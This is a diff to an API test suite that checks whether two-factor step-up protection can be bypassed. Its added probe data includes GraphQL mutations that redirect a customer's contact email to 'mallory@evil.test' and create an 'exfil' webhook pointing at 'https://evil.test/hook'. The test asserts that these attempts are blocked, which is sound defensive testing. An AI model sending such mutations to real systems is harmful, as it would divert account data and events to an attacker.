@@ -2,6 +2,8 @@ import { base32Decode, base32Encode, totp } from '../../auth/totp';
 import { signUserToken } from '../../auth/user-token';
 import { SYSTEM_ACTORS } from '../../contract/actor';
 import { UserRole } from '../../contract/enums';
+import { Customer } from '../../entities/customer.entity';
+import { WebhookSubscription } from '../../entities/webhook-subscription.entity';
 import { enrolKnownSecret, totpSealKey } from '../../users/two-factor.service';
 import { codes, PASSWORD, SECRETS, startApiHarness, type ApiHarness } from '../api/api-harness';
 
@@ -54,6 +56,9 @@ describe('step-up cannot be side-stepped (#17 probe)', () => {
         SECRET[role],
         SYSTEM_ACTORS.demo,
       );
+    await h.db.dataSource
+      .getRepository(Customer)
+      .save({ code: 'STEP1', name: '客户 STEP1', currency: 'CNY', contactEmail: 'ap@step1.test' });
     // Enrolled long ago: a token proved ten minutes ago was proved under this enrolment.
     await h.db.dataSource.query('UPDATE users SET totp_enabled_at = totp_enabled_at - INTERVAL 1 DAY');
   });
@@ -79,6 +84,13 @@ describe('step-up cannot be side-stepped (#17 probe)', () => {
       ],
       ['mutation ($id: ID!) { updateUser(id: $id, role: ADMIN) { id } }', { id: h.userIds.CLERK }],
       ['mutation { createApiKey(name: "exfil", scopes: ["read"]) { key } }', {}],
+      // Statement links (confirm or dispute the account) would go to the attacker's address.
+      [
+        'mutation { updateCustomerSettings(code: "STEP1", contactEmail: "mallory@evil.test") { version } }',
+        {},
+      ],
+      // The account's events would flow to the attacker's receiver.
+      ['mutation { createWebhookSubscription(name: "exfil", url: "https://evil.test/hook") { secret } }', {}],
     ];
     for (const [query, variables] of attempts)
       expect([query, codes(await h.call(query, variables, lapsed))]).toEqual([query, ['STEP_UP_REQUIRED']]);
@@ -89,6 +101,16 @@ describe('step-up cannot be side-stepped (#17 probe)', () => {
       [h.userIds.CLERK],
     )) as Array<{ n: string }>;
     expect(Number(users.n)).toBe(0);
+    const customer = await h.db.dataSource.getRepository(Customer).findOneByOrFail({ code: 'STEP1' });
+    expect(customer.contactEmail).toBe('ap@step1.test');
+    expect(await h.db.dataSource.getRepository(WebhookSubscription).count()).toBe(0);
+    // Settings that send nothing anywhere need no step-up.
+    const rules = await h.call(
+      'mutation { updateCustomerSettings(code: "STEP1", ruleSettings: { dateWindowDays: 5 }) { version } }',
+      {},
+      lapsed,
+    );
+    expect(codes(rules)).toEqual([]);
   });
 
   it('a reset ends the tokens proved under the old enrolment; a sign-in after enrolling again works', async () => {
